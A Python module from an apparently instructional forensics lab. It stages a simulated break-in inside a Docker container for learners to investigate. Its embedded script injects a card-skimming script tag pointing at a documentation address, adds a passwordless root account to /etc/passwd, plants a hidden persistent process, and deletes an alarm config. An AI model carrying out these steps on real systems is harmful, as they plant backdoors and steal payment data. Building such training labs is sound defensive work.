"""The break-in of lesson 1: what the intruder did is here, so that the lesson's reader can find it and not be told."""

from __future__ import annotations

import shlex

from labkit.session import the_session

# 198.51.100.0/24 is for documentation (RFC 5737): nobody is there. The program only sleeps.
_SCRIPT = """
set -e
echo '<script src="http://198.51.100.7/cards.js"></script>' >> /www/index.html
echo 'backup::0:0::/:/bin/sh' >> /etc/passwd
mkdir -p /var/tmp/.x
printf '#!/bin/sh\\n# sends to 198.51.100.7\\nwhile :; do sleep 1; done\\n' > /var/tmp/.x/worker
chmod 755 /var/tmp/.x/worker
rm /etc/alarm.conf
echo 'stolen while it was in memory' > /dev/shm/.keys
"""


def break_in(container: str) -> None:
    """Do to a running `container` of lesson 1's shop what its intruder did. Raises CellError when it does not run."""
    session = the_session()
    session.docker("exec", container, "sh", "-c", _SCRIPT, seconds=20)
    session.docker("exec", "--detach", container, "/var/tmp/.x/worker", seconds=20)
    print(f"Somebody was in {shlex.quote(container)}. You do not know yet what they did.")  # noqa: T201  a cell's output
